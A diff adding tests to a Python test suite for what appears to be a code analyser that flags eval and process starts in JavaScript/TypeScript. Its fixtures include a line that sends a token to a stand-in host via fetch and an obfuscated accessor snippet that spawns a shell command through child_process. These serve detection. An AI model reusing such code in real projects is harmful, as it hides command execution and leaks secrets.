@@ -62,6 +62,14 @@ def test_what_does_not_parse_is_an_error() -> None:
     assert read("const a = ;;; function (").errors == ("index.js: line 1 does not parse",)
 
 
+def test_exported_types_are_no_syntax_error() -> None:
+    code = "export type * from './a'\nexport type * as b from './b'\neval(x)"
+    read_pass = read(code, path="index.ts")
+
+    assert read_pass.errors == ()
+    assert [(fact.act, fact.line) for fact in read_pass.facts] == [(Act.CODE_EVAL, 3)]
+
+
 def test_a_guess_need_not_parse() -> None:
     guess = source("notes.txt", "this is no code at all (", is_guess=True)
 
@@ -85,6 +93,16 @@ def test_same_scripts_give_the_same_facts() -> None:
     code = "const { exec } = require('child_process'); exec(process.env.A + process.argv); fetch(`https://a.example.invalid/${x.token}`)"
 
     assert read(code) == read(code)
+
+
+def test_texts_behind_an_accessor_are_found() -> None:
+    code = (
+        "function _0x4e2c(){const a=['exec','child_process','id'];_0x4e2c=function(){return a;};return _0x4e2c();}"
+        "function _0x1a2b(a,b){const c=_0x4e2c();_0x1a2b=function(d,e){d=d-0x1e7;let f=c[d];return f;};"
+        "return _0x1a2b(a,b);} require(_0x1a2b(0x1e8))[_0x1a2b(0x1e7)](_0x1a2b(0x1e9));"
+    )
+
+    assert ("id", Act.PROCESS_START) in [(fact.detail, fact.act) for fact in read(code).facts]
 
 
 def test_obfuscated_scripts_are_told() -> None:
